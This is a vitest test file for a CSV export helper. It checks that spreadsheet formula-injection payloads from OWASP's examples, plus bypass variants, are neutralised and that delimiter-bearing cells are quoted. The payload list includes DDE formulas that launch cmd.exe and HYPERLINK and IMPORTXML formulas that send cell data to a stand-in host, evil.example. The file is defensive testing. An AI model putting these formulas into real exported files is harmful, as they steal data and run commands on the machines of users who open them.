import { describe, expect, it } from "vitest";
import { csvCell, parseCsv, toCsv } from "~/utils/csv";

// OWASP's CSV injection examples (https://owasp.org/www-community/attacks/CSV_Injection), and variants
// that slip past a first-character check.
const payloads = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example?x="&A1&A2,"Error: please click for further information")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "   =1+1",
  '"=1+1',
  "'=1+1",
  "＝1+1",
];

describe("CSV export cells", () => {
  it.each(payloads)("neutralise %j in every column, so no spreadsheet runs it", (payload) => {
    const csv = toCsv(["a", "b", "c"], [[payload, payload, payload]]);
    const [, row] = parseCsv(csv);
    expect(row).toHaveLength(3);
    for (const cell of row!) expect(cell).toBe(`'${payload}`);
  });

  it("quotes a cell holding any locale's delimiter, so text after it cannot start a new cell", () => {
    for (const text of ["fine;=1+1", "fine,=1+1", "fine\t=1+1", "fine|=1+1", 'say "hi"', "two\nlines"]) {
      const cell = csvCell(text);
      expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
      expect(parseCsv(`${cell}\r\n`)).toEqual([[text]]);
    }
  });

  it("leaves ordinary text, numbers and a DDE string without '=' untouched", () => {
    expect(csvCell("Opened with the commuter")).toBe("Opened with the commuter");
    expect(csvCell(3)).toBe("3");
    expect(csvCell(-2)).toBe("-2");
    expect(csvCell(null)).toBe("");
    expect(csvCell('DDE ("cmd";"/C calc";"!A0")A0')).toBe('"DDE (""cmd"";""/C calc"";""!A0"")A0"');
  });
});
